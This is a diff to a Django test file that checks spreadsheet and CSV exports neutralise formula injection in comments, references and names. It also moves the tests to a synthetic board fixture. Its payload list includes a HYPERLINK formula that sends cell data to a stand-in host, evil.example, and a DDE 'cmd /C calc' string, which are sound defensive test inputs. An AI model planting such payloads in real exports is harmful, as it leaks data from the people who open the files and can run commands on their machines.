@@ -13,13 +13,13 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from boards.importers.action_log import read_log
-from boards.models import Action, Person
+from boards.models import Person
 from boards.services.links import make_token
 from boards.spreadsheet_cells import FORMULA_STARTS, safe_text, text_from_safe
 
 pytestmark = pytest.mark.django_db
 
-SLUG = "leicestershire-hwb"
+SLUG = "small-board"  # tests/board_world.py: Olu Officer is an officer of 201(b)
 PAYLOADS = [
     '=HYPERLINK("https://evil.example/?d="&A2,"Click for the papers")',
     "+1+cmd|' /C calc'!A0",
@@ -31,7 +31,7 @@ PAYLOADS = [
 
 
 def save_through_the_emailed_link(client, action, comment):
-    client.get(reverse("boards:link", args=[make_token(Person.objects.get(name="Mike Sandys"))]))
+    client.get(reverse("boards:link", args=[make_token(Person.objects.get(name="Olu Officer"))]))
     action.refresh_from_db()
     amber = action.board.rag_key.statuses.get(code="AMBER")
     response = client.post(
@@ -42,8 +42,8 @@ def save_through_the_emailed_link(client, action, comment):
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
-def test_a_comment_saved_from_an_emailed_link_is_never_a_formula_in_the_exports(client, demo, payload):
-    action = Action.objects.get(board=demo, reference="330(d)")
+def test_a_comment_saved_from_an_emailed_link_is_never_a_formula_in_the_exports(client, small_board, payload):
+    action = small_board.action("201(b)")
     save_through_the_emailed_link(client, action, payload)
     action.refresh_from_db()
     stored = action.latest_comment
@@ -73,17 +73,17 @@ def test_a_comment_saved_from_an_emailed_link_is_never_a_formula_in_the_exports(
     assert found and all(cell.quotePrefix for cell in found)
 
 
-def test_every_column_is_neutralised_not_only_comments(client, demo):
+def test_every_column_is_neutralised_not_only_comments(client, small_board):
     """A clerk's text, a reference and an officer's name: every cell goes through the same rule."""
     from boards.services.updating import Actor, change
 
-    action = Action.objects.get(board=demo, reference="330(d)")
-    change(action, actor=Actor(via="system"), description="=1+1 description", reference="-330(d)")
-    Person.objects.filter(name="Mike Sandys").update(name="@Mike Sandys")
+    action = small_board.action("201(b)")
+    change(action, actor=Actor(via="system"), description="=1+1 description", reference="-201(b)")
+    Person.objects.filter(name="Olu Officer").update(name="@Olu Officer")
     body = client.get(f"/boards/{SLUG}/actions/export.csv").content.decode("utf-8-sig")
     cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
-    assert {"'=1+1 description", "'-330(d)"} <= set(cells)
-    assert any(c.startswith("'@Mike Sandys") for c in cells)
+    assert {"'=1+1 description", "'-201(b)"} <= set(cells)
+    assert any(c.startswith("'@Olu Officer") for c in cells)
     assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
 
 
